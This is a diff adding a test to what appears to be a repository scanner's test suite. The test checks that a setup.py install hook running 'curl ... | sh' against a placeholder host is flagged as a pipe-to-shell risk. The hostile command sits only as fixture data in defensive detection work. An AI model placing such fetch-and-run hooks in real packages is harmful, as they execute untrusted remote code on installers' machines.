@@ -429,3 +429,11 @@ def test_the_way_down_that_a_go_migration_registers_is_one(repository: Repositor
     assert rules(repository.scan()) == []
     repository.stage({"migrations/1_x.go": GOOSE % "upX"})
     assert rules(repository.scan()) == ["sql/drop-table"]
+
+
+FETCHES = "import os\n\n\nclass Install(install):\n    def run(self):\n        os.system('curl -s https://x.example.com/p | sh')\n"
+
+
+def test_what_an_installer_fetches_and_runs_in_its_hook(repository: Repository) -> None:
+    repository.stage({"setup.py": FETCHES, "tool.py": FETCHES})
+    assert [(one.rule, one.place.file) for one in repository.scan().stopping] == [("blind/pipe-to-shell", "setup.py")]
